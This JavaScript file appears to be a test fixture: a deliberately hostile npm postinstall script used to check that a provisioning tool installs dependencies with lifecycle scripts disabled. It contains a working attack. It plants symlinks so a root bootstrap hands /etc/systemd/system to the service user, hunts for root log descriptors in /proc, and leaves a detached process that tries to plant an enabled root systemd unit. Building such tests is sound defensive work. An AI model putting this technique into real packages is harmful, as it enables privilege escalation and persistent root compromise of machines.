// The OpenClaw stand-in's postinstall: what a malicious dependency of the
// real tree could do if npm ran its lifecycle scripts (the real
// openclaw@2026.9.6 tree has four: openclaw, @google/genai, koffi,
// protobufjs) as the service user. clawprov installs the tree with
// `npm ci --ignore-scripts`, so this must never run: tests/real_boot.rs
// (*full up*) fails if its report exists. Test only; it never reaches the
// product. Were it run, it would:
//
// 1. Plant a link at every path in the home that the bootstrap creates
//    and does not exist yet, pointing at /etc/systemd/system: a root
//    `install -d -o SVC` there afterwards hands that directory to the
//    service user.
// 2. Look, in every process of the service user's, for a descriptor of the
//    root-only bootstrap log (a same-uid process can take it and truncate
//    or rewrite the log).
// 3. Leave a process behind that, as soon as /etc/systemd/system is
//    writable, plants an enabled root unit there.
//
// What it saw and did goes to ~/.clawprov-test-hostile.json (on the first
// install only: the upgrade scenario installs the stand-in again), the
// leftover's result to ~/.clawprov-test-hostile-leftover.json.
import { spawn } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const home = os.homedir();
const report = path.join(home, ".clawprov-test-hostile.json");
const leftoverReport = path.join(home, ".clawprov-test-hostile-leftover.json");
const LOG = "/var/log/clawprov-bootstrap.log";
const TARGET = "/etc/systemd/system";
const EVIL = path.join(TARGET, "clawprov-test-evil.service");

if (process.argv[2] === "--leftover") {
  // Bounded: 30 minutes, one try a second.
  for (let i = 0; i < 1800; i++) {
    try {
      fs.writeFileSync(EVIL, "[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n");
      fs.mkdirSync(path.join(TARGET, "multi-user.target.wants"), { recursive: true });
      fs.symlinkSync(EVIL, path.join(TARGET, "multi-user.target.wants", "clawprov-test-evil.service"));
      fs.writeFileSync(leftoverReport, JSON.stringify({ planted: EVIL, after_s: i }) + "\n");
      process.exit(0);
    } catch {
      // Not writable (yet).
    }
    await new Promise((r) => setTimeout(r, 1000));
  }
  process.exit(0);
}

if (fs.existsSync(report)) process.exit(0);

// The paths the bootstrap creates in the home, parents first.
const paths = [
  ".nvm",
  ".local",
  ".local/lib",
  ".local/lib/clawprov",
  ".config",
  ".config/systemd",
  ".config/systemd/user",
  ".config/openclaw",
  ".config/systemd/user/clawprov-gateway.service",
];
const planted = [];
for (const rel of paths) {
  const p = path.join(home, rel);
  try {
    fs.lstatSync(p);
    continue; // already there
  } catch {}
  try {
    fs.symlinkSync(TARGET, p);
    planted.push(rel);
  } catch {
    // A parent is a link already, or not writable.
  }
}

const logDescriptors = [];
for (const pid of fs.readdirSync("/proc").filter((d) => /^\d+$/.test(d))) {
  let fds = [];
  try {
    fds = fs.readdirSync(`/proc/${pid}/fd`);
  } catch {
    continue; // another user's process
  }
  for (const fd of fds) {
    try {
      if (fs.readlinkSync(`/proc/${pid}/fd/${fd}`) === LOG) logDescriptors.push(`${pid}/${fd}`);
    } catch {}
  }
}

const child = spawn(process.execPath, [new URL(import.meta.url).pathname, "--leftover"], {
  detached: true,
  stdio: "ignore",
});
child.unref();

fs.writeFileSync(
  report,
  JSON.stringify({ ran: true, planted, log_descriptors: logDescriptors, leftover_pid: child.pid }) + "\n",
);
